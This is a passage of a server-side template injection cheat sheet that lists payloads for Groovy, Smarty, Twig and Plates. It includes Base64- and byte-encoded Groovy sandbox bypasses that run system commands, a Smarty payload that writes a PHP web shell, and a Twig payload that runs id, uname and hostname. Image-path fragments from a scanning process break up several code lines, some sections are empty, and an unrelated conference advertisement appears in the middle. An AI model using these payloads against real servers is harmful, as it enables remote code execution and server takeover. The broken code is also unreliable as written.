The following Security Manager bypasses were taken from this writeup.//Basic Payload
import groovy.*;
    cmd = "ping "
    assert java.lang.Runtime.getRuntime().exec(cmd.split(" "))
def x

//Payload to get output
import groovy.*;
    cmd = "whoami";
    out = new java.util.Scanner(java.lang.Runtime.getRuntime().exec(cmd.split(" ")).getInputStream()).useDelimiter("\\A").next()
    cmd2 = "ping " + out.replaceAll("[^a-zA-Z0-9]","") + "";
    java.lang.Runtime.getRuntime().exec(cmd2.split(" "))
def x

//Other payloads
new groovy.lang.GroovyClassLoader().parseClass("@groovy.transform.ASTTest(value={assertjava.lang.Runtime.getRuntime().exec(\"calc.exe\")})def x")
this.evaluate(new String(java.util.Base64.getDecoder().decode("QGdyb292eS50cmFuc2Zvcm0uQVNUVGVzdCh2YWx1ZT17YXNzZXJ0IGphdmEubGFuZy5SdW50aW1lLmdldFJ1bnRpbWUoKS5leGVjKCJpZCIpfSlkZWYgeA==")))
this.evaluate(new String(new byte[]{64, 103, 114, 111, 111, 118, 121, 46, 116, 114, 97, 110, 115, 102, 111, 114, 109, 46, 65, 83, 84, 84, 101, 115, 116, 40, 118, 97, 108, 117, 101, 61, 123, 97, 115, 115, 101, 114, 116, 32, 106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116,105, 109, 101, 46, 103, 101, 116, 82,117, 110, 116, 105, 109, 101, 40, 41, 46, 101, 120, 101, 99, 40, 34, 105, 100, 34, 41, 125, 41, 100, 101, 102, 32, 120}))

RootedCON is the most relevant cybersecurity event in Spain and one of the most important in Europe. With the mission of promoting technical knowledge, this congress is a boiling meeting point for technology and cybersecurity professionals in every discipline.

Smarty (PHP)

{php}echo `id`;{/php} //deprecated in smarty v3
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}
{system('ls')} // compatible v3
{system('cat index.php')} // compatible v3

More information

Twig (PHP)• {{7*7}} = 49

  • ${7*7} = ${7*7}

  • {{7*'7'}} = 49

  • {{1/0}} = Error

  • {{foobar}} Nothing

#Get Info
{{_self}} #(Ref. to current application)

#File read

#Exec code
{{_self.env.registerUndefinedFilterCallback("system")}}{{_self.env.getFilter("id;uname -a;hostname")}}#Hide warnings and errors for automatic exploitation
{{["error_reporting", "0"]|sort("ini_set")}}

Twig - Template format

$output = $twig > render (
  'Dear' . $_GET['custom_greeting'],
  array("first_name" =>$user.first_name)

$output = $twig > render (
  "Dear{first_name}",
  array("first_name" => $user.first_name)

More information

Plates (PHP)

Plates is a templating engine native toPHP, drawing inspiration from Twig. However, unlike Twig, which introduces a new syntax, Plates leverages native PHP code in templates, making it intuitive for PHP developers.


// Create new Plates instance
$templates = new League\Plates\Engine('/path/to/templates');

// Render a template
echo $templates->render('profile', ['name' => 'Jonathan']);

Page template:

<?php $this->layout('template', ['title'=> 'User Profile']) ?>

<h1>User Profile</h1>
<p>Hello, <?=$this->e($name)?></p>

Layout template:


More information

PHPlib and HTML_Template_PHPLIB(PHP)

HTML_Template_PHPLIB is the same as PHPlib but ported to Pear.